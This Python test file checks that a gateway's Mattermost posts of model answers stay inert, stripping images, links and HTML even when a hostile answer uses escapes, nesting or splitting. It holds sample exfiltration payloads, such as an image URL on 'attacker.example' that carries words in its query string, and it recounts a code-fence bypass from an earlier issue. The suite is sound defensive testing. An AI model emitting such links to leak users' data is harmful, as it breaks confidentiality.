"""Every post gatewayd makes from model text is inert under Mattermost's own renderer.

The judge is npm ``@mattermost/commonmark`` (markdown_judge.py): gatewayd's rendering path turns
a hostile answer into posts, the renderer turns each post into HTML, and no post may contain an
image, a link, HTML or any element with an address; mentions, ~channels and #hashtags may stay
(spans the apps link inside the owner's own server). The hostile answers are built from every
form of image and link Markdown and HTML has, nested in the constructs around them, with escapes
and look-alikes, long enough to be split. Every word the reader sees of the answer as written
(a table drops a row's extra cells either way) the reader still sees once it is posted.
"""

from __future__ import annotations

import json
import re

import pytest
from bxcore.config import load_config
from bxcore.display import describe_call
from bxcore.protocol.loop import AnswerTaint, Content, ToolCallStarted
from bxcore.tools import DataClass
from gatewayd import wiring
from gatewayd.inert import inert_posts
from gatewayd.models import MAX_POST_RUNES
from gatewayd.render import TurnView, answer_is_inert, answer_posts, approval_posts
from hypothesis import given, settings
from hypothesis import strategies as st
from support.requires import require

from .hostile import FORMS, hostile_answers
from .markdown_judge import MarkdownJudge


@pytest.fixture(scope="module")
def judge():
    require("node", "npm")
    running = MarkdownJudge()
    yield running
    running.close()


def _seen(judge: MarkdownJudge, posts: list[str]) -> str:
    """What the reader sees of all the posts, without white space (a hard cut may split a word
    across two posts)."""
    return re.sub(r"\s", "", "".join(judge.render(post).text for post in posts))


def _assert_inert(judge: MarkdownJudge, posts: list[str]) -> None:
    for number, post in enumerate(posts):
        assert len(post) <= MAX_POST_RUNES, f"post {number} is {len(post)} runes"
        rendered = judge.render(post)
        assert rendered.active() == [], f"post {number} renders {rendered.active()}: {post!r}"


@pytest.mark.parametrize("form", sorted(FORMS))
def test_each_hostile_form_is_active_as_written_and_inert_as_posted(judge, form):
    """The generator is hostile: each form alone renders active content as the model wrote it
    (so the property below can fail), and nothing once gatewayd posts it."""
    raw = FORMS[form]("https://attacker.example/p.png?d=word1", "word1")
    assert judge.render(raw).active(), f"{form} is not active even as written: {raw!r}"
    posts = answer_posts(raw, inert=True)
    _assert_inert(judge, posts)
    assert "word1" in _seen(judge, posts)


@given(answer=hostile_answers())
def test_a_hostile_answer_posts_inert_and_keeps_its_words(judge, answer):
    text, words = answer
    posts = answer_posts(text, inert=True)
    _assert_inert(judge, posts)
    seen, seen_as_written = _seen(judge, posts), _seen(judge, [text])
    missing = [word for word in words if word in seen_as_written and word not in seen]
    assert not missing, f"words the reader saw as written are lost: {missing}"


@settings(max_examples=20)
@given(answer=hostile_answers(), repeat=st.integers(min_value=2, max_value=6))
def test_a_long_hostile_answer_is_split_into_posts_each_inert(judge, answer, repeat):
    text, words = answer
    long = ("\n\n".join([text] * repeat) + " ") * (MAX_POST_RUNES // max(len(text), 1) // 3 + 1)
    posts = answer_posts(long, inert=True)
    assert len(posts) >= 2 or len(long) <= MAX_POST_RUNES
    _assert_inert(judge, posts)
    seen, seen_as_written = _seen(judge, posts), _seen(judge, [text])
    assert all(word in seen for word in words if word in seen_as_written)


@given(answer=hostile_answers(), tool=st.text(max_size=40))
def test_the_streamed_placeholder_is_inert(judge, answer, tool):
    text, _ = answer
    view = TurnView()
    view.apply(ToolCallStarted(name=tool or "x"))
    for piece in (text[: len(text) // 2], text[len(text) // 2:]):
        view.apply(Content(text=piece))
        _assert_inert(judge, [view.text()])


@settings(max_examples=30)
@given(answer=hostile_answers(), filler=st.integers(0, 400), mark=st.sampled_from(["", "x ", "\r"]))
def test_the_placeholder_of_an_answer_longer_than_a_post_is_inert(judge, answer, filler, mark):
    """The placeholder shows the tail of a long answer after a cut mark: whatever the tail
    starts with (a fence, code, a run of backticks) the mark unmakes nothing (the fourth attack
    on issue 31: "…" prefixed to a fence line set the code block's image free)."""
    text, _ = answer
    view = TurnView()
    view.apply(Content(text="A" * (MAX_POST_RUNES - filler) + f"\n\n{mark}```\n{text}\n```\n"
                       + text))
    _assert_inert(judge, [view.text()])


@settings(max_examples=50)  # each example renders up to 40,000 characters
@given(fill=st.text(alphabet="`~ \n{}ab[](:/.", min_size=0, max_size=60),
       length=st.sampled_from([10, 5_000, 17_000, 40_000]))
def test_every_part_of_an_approval_shows_the_arguments_only_in_code_blocks(judge, fill, length):
    value = (fill * (length // max(len(fill), 1) + 1))[:length] if fill else "x" * length
    arguments = json.dumps({"argv": ["sh", "-c", value], "note": "![](https://a.example/p)"})
    posts = approval_posts("id1", "shell.run", arguments, "shell.toml", "2026-12-01T00:00:00Z")
    _assert_inert(judge, posts)
    rendered = [judge.render(post) for post in posts]
    shown = describe_call("shell.run", arguments)
    assert "".join("".join(r.blocks) for r in rendered).replace("\n", "") == \
        shown.replace("\n", "")
    prose = [re.sub(r"\s+", " ", r.prose).strip() for r in rendered]
    assert prose[0].startswith("Approval needed (grant shell.toml, expires 2026-12-01T00:00:00Z)")
    assert prose[-1].endswith("Reply in this thread with !approve id1 or !deny id1.")
    assert all(p == "" for p in prose[1:-1]), "a middle part shows text outside its code block"
    assert len(posts) == 1 or all(r.blocks for r in rendered)


@given(text=st.text(max_size=300))
def test_any_text_posts_inert(judge, text):
    _assert_inert(judge, inert_posts(text))


@pytest.mark.parametrize(("taint", "floor", "always", "inert"), [
    (AnswerTaint(highest=None, untrusted=False), DataClass.PUBLIC, False, False),
    (AnswerTaint(highest=DataClass.PUBLIC, untrusted=False), DataClass.PUBLIC, False, False),
    (AnswerTaint(highest=DataClass.PUBLIC, untrusted=True), DataClass.PUBLIC, False, True),
    (AnswerTaint(highest=DataClass.PRIVATE, untrusted=False), DataClass.PUBLIC, False, True),
    (AnswerTaint(highest=None, untrusted=False), DataClass.PRIVATE, False, True),
    (AnswerTaint(highest=None, untrusted=False), DataClass.PUBLIC, True, True),
    (None, DataClass.PUBLIC, False, True),
])
def test_an_answer_is_inert_unless_its_session_is_known_public_and_trusted(
    taint, floor, always, inert
):
    assert answer_is_inert(taint, floor=floor, always=always) is inert


def test_a_clean_answer_keeps_its_markdown(judge):
    text = "See [the docs](https://example.org/docs) and **this**."
    assert answer_posts(text, inert=False) == [text]
    assert "link" in judge.render(text).active()


@pytest.mark.parametrize(("line", "always", "floor"), [
    ("", False, DataClass.PUBLIC),
    ('inert_output = "all"\n', True, DataClass.PUBLIC),
    ('[memory]\nceiling = "secret"\nidentity_ceiling = "private"\n', False, DataClass.PRIVATE),
])
def test_the_owners_setting_and_the_identity_floor_reach_gatewayd(tmp_path, monkeypatch, line,
                                                                 always, floor):
    (tmp_path / "allow.txt").write_text(f"{'a' * 26}\n")
    config = tmp_path / "config.toml"
    config.write_text(
        '[secrets.mattermost_token]\nbackend = "env"\nvariable = "GW_TEST_TOKEN"\n'
        f'[gateway]\nserver = "http://127.0.0.1:9"\nallowlist = "allow.txt"\n{line}'
    )
    monkeypatch.setenv("GW_TEST_TOKEN", "t")
    settings = wiring.settings(load_config(config), source=config)
    assert (settings.inert_always, settings.identity_floor) == (always, floor)
